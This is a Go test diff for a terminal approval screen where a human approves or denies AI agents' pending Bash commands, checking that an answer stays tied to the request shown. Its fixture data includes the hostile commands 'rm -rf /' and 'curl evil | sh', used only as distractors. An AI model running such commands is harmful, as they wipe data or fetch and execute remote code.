@@ -306,3 +306,50 @@ func TestDroppedEventsReadTheTreeNotOverAndOver(t *testing.T) {
 		t.Fatal("the whole read after the second drop never came")
 	}
 }
+
+// TestAnswerFollowsItsRequest: while a/d waits for y, the screen shows
+// the request being answered even if the list changes under it; if that
+// request stops waiting, nothing is answered.
+func TestAnswerFollowsItsRequest(t *testing.T) {
+	f := newFake()
+	req := func(id, agent, cmd string) api.PendingApproval {
+		return api.PendingApproval{Agent: agent, Approval: fsstore.Approval{ID: id, Tool: "Bash",
+			Input: mustJSON(map[string]string{"command": cmd}), Approver: fsstore.User, Deadline: t0.Add(time.Hour)}}
+	}
+	f.snap.Approvals = []api.PendingApproval{req("r1", "lead", "ls"), req("r2", "lead/w1", "rm -rf /")}
+	m := run(t, f)
+	press(m, "v", "a") // r1: ls
+	f.mu.Lock()
+	f.snap.Approvals = []api.PendingApproval{req("r0", "lead/w2", "curl evil | sh"), req("r1", "lead", "ls"), req("r2", "lead/w1", "rm -rf /")}
+	f.mu.Unlock()
+	m.needAppr = true
+	for _, msg := range flatten(m.fetchPart()) {
+		m.Update(msg)
+	}
+	if v := m.View(); !strings.Contains(v, `{"command":"ls"}`) || strings.Contains(v, "curl") || !strings.Contains(v, "approve lead's Bash") {
+		t.Fatalf("the request being answered is not the one shown:\n%s", v)
+	}
+	f.mu.Lock()
+	f.snap.Approvals = f.snap.Approvals[2:] // r1 answered elsewhere
+	f.mu.Unlock()
+	m.needAppr = true
+	for _, msg := range flatten(m.fetchPart()) {
+		m.Update(msg)
+	}
+	if m.mode != modeApprovals || !strings.Contains(m.View(), "request r1 no longer waits") {
+		t.Fatalf("mode %v:\n%s", m.mode, m.View())
+	}
+	// The same through a whole read, and y pressed at once.
+	f.mu.Lock()
+	f.snap.Approvals = []api.PendingApproval{req("r1", "lead", "ls")}
+	f.mu.Unlock()
+	m.Update(m.fetch()())
+	press(m, "a")
+	f.mu.Lock()
+	f.snap.Approvals = nil
+	f.mu.Unlock()
+	m.Update(m.fetch()())
+	if cmd := press(m, "y"); cmd != nil || len(f.acts) != 0 {
+		t.Fatalf("y after the request went answered something: %v", f.acts)
+	}
+}
